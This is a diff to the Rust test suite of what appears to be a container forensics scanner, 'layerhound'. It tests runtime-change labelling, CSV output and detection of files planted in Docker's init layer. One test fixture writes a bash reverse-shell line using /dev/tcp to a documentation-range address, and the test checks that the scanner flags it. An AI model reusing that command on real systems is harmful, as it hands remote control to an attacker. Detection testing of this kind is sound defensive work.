@@ -673,7 +673,8 @@ fn the_kept_vfs_store_shows_the_same() {
 /// changed after the pull is named, even with its size and mtime put back.
 fn check_vfs_store(store: &Path) {
     let before = snapshot(store);
-    let report = scan(store);
+    let scratch = tempfile::tempdir().unwrap();
+    let report = common::scan_with_inventory(&[store.to_path_buf()], scratch.path());
     assert_unchanged(store, &before);
     let input = &report["inputs"][0];
     assert_eq!(input["format"], json!(["docker-store"]), "{:#}", input["errors"]);
@@ -703,6 +704,24 @@ fn check_vfs_store(store: &Path) {
     };
     assert_eq!(hidden("/etc/group"), Some(("deleted".into(), writable)), "deleted at runtime");
     assert_eq!(hidden("/etc/passwd"), Some(("overwritten".into(), writable)), "changed at runtime");
+    // Every version says what the container did, and what the engine did for it.
+    let runtime = |path: &str, layer: u64| {
+        let files = miner["files"].as_array().unwrap();
+        let version = files.iter().find(|v| v["path"] == path && v["layer"] == layer).unwrap_or_else(|| panic!("{path} in layer {layer}"));
+        version["runtime"].as_str().unwrap_or("").to_string()
+    };
+    for (path, layer, change) in [
+        ("/tmp/.x/run.sh", writable, "added"),
+        ("/etc/passwd", writable, "changed"),
+        ("/etc/passwd", 0, "changed"),
+        ("/etc/group", 0, "deleted"),
+        ("/etc/hosts", writable - 1, "engine"),
+        ("/.dockerenv", writable - 1, "engine"),
+        ("/etc/mtab", writable - 1, "engine"),
+        ("/bin/sh", 0, ""),
+    ] {
+        assert_eq!(runtime(path, layer), change, "{path} in layer {layer}");
+    }
     let quiet = sightings(image_named(&report, "container/quiet"));
     assert!(!quiet.iter().any(|(_, place, ..)| place == "/tmp/app.log"), "the benign log file is no finding: {quiet:#?}");
 
@@ -871,7 +890,7 @@ fn the_cli_reads_a_store_into_every_format_with_runtime_times_in_the_bodyfile() 
     let status = Command::new(env!("CARGO_BIN_EXE_layerhound"))
         .arg("scan")
         .arg(&docker.root)
-        .args(["--store", "docker", "--no-builtin", "-q", "--format", "json,bodyfile,sarif,text", "-o"])
+        .args(["--store", "docker", "--no-builtin", "-q", "--format", "json,bodyfile,sarif,text,csv,files-csv", "-o"])
         .arg(&out)
         .status()
         .unwrap();
@@ -883,13 +902,35 @@ fn the_cli_reads_a_store_into_every_format_with_runtime_times_in_the_bodyfile() 
     assert!(errors.is_empty(), "{errors:#?}");
     // The writable layer's file: its times on disk, ctime included (what `touch` cannot fake).
     let body = std::fs::read_to_string(out.join("report.body")).unwrap();
-    let line = body.lines().find(|l| l.contains("/tmp/dropped.sh (layer 4, present) [container/web")).unwrap_or_else(|| panic!("{body}"));
+    let line = body
+        .lines()
+        .find(|l| l.contains("/tmp/dropped.sh (layer 4, present, added at runtime) [container/web"))
+        .unwrap_or_else(|| panic!("{body}"));
     let fields: Vec<&str> = line.split('|').collect();
     assert_eq!(&fields[7..10], &[disk.atime().to_string(), disk.mtime().to_string(), disk.ctime().to_string()], "{line}");
     // Image layers' times are the tar's: no atime or ctime.
     let passwd = body.lines().find(|l| l.contains("/etc/passwd (layer 0, present) [shop:1")).unwrap();
     assert_eq!(passwd.split('|').nth(9), Some("0"), "{passwd}");
+    assert!(body.contains("|/.dockerenv (layer 3, present, written by the engine for the container) [container/web"), "{body}");
     assert!(std::fs::read_to_string(out.join("report.txt")).unwrap().contains("container web"));
+    // The spreadsheets name the container and what it did, as the JSON does.
+    let mut findings = csv::Reader::from_path(out.join("report.csv")).unwrap();
+    let columns: Vec<String> = findings.headers().unwrap().iter().map(String::from).collect();
+    assert!(columns.contains(&"container".into()) && columns.contains(&"runtime".into()), "a header even with no finding: {columns:?}");
+    assert_eq!(findings.records().count(), 0);
+    let mut files = csv::Reader::from_path(out.join("report.files.csv")).unwrap();
+    let columns = files.headers().unwrap().clone();
+    let column = |name: &str| columns.iter().position(|c| c == name).unwrap();
+    let rows: Vec<csv::StringRecord> = files.records().map(Result::unwrap).collect();
+    let change = |path: &str| {
+        let row = rows.iter().find(|r| &r[column("path")] == path && &r[column("container")] == "web").unwrap_or_else(|| panic!("{path}"));
+        row[column("runtime")].to_string()
+    };
+    assert_eq!(
+        (change("/tmp/dropped.sh"), change("/.dockerenv"), change("/etc/hostname")),
+        ("added".into(), "engine".into(), "engine".into())
+    );
+    assert!(rows.iter().filter(|r| r[column("container")].is_empty()).all(|r| r[column("runtime")].is_empty()), "an image has no runtime");
     // `ls` and `cat` on the container, and `diff` against its image.
     let run = |args: &[&str]| {
         let out = Command::new(env!("CARGO_BIN_EXE_layerhound")).args(args).output().unwrap();
@@ -905,4 +946,40 @@ fn the_cli_reads_a_store_into_every_format_with_runtime_times_in_the_bodyfile() 
     let diff: Value = serde_json::from_str(&diff).unwrap();
     let added: Vec<&str> = diff["added"].as_array().unwrap().iter().map(|a| a["path"].as_str().unwrap()).collect();
     assert!(added.contains(&"/tmp/dropped.sh") && added.contains(&"/.dockerenv"), "{added:?}");
+}
+
+#[test]
+fn what_the_engine_writes_in_an_init_layer_is_not_the_containers_doing_and_a_file_planted_there_is() {
+    let dir = tempfile::tempdir().unwrap();
+    let docker = FakeDocker::new(dir.path());
+    let image = docker.image("shop:1", &base_layers());
+    let container = docker.container("web", &image, &layer_tar(&[("tmp/", b"")]), json!({"Cmd": ["/bin/sh"]}), json!({}));
+    // Docker writes its init files empty (the real ones are mounted over them): one with content,
+    // or a file it never writes, was put in the init directory some other way.
+    let init = docker.root.join("overlay2").join(format!("{}-init/diff", container.mount_id));
+    std::fs::write(init.join("etc/hosts"), b"198.51.100.23 updates.example\n").unwrap();
+    std::fs::create_dir_all(init.join("usr/local/bin")).unwrap();
+    std::fs::write(init.join("usr/local/bin/update.sh"), b"#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n").unwrap();
+    let scratch = tempfile::tempdir().unwrap();
+    let report = common::scan_with_inventory(&[dir.path().to_path_buf()], scratch.path());
+    let web = image_named(&report, "container/web");
+    assert_eq!(web["container"]["init_layer"], 3);
+    let change = |path: &str| {
+        let version = web["files"].as_array().unwrap().iter().find(|v| v["path"] == path && v["layer"] == 3);
+        version.unwrap_or_else(|| panic!("{path}"))["runtime"].as_str().unwrap_or("").to_string()
+    };
+    for (path, expected) in
+        [("/.dockerenv", "engine"), ("/etc/hostname", "engine"), ("/etc/hosts", "added"), ("/usr/local/bin/update.sh", "added")]
+    {
+        assert_eq!(change(path), expected, "{path}");
+    }
+    // The image's /etc is hidden by the engine's.
+    let etc = web["files"].as_array().unwrap().iter().find(|v| v["path"] == "/etc" && v["layer"] == 0).unwrap();
+    assert_eq!(etc["runtime"], "engine");
+    let seen = sightings(web);
+    assert!(
+        seen.iter()
+            .any(|(d, p, _, runtime, _)| d == "layerhound:reverse_shell_dev_tcp" && p == "/usr/local/bin/update.sh" && runtime == "added"),
+        "{seen:#?}"
+    );
 }
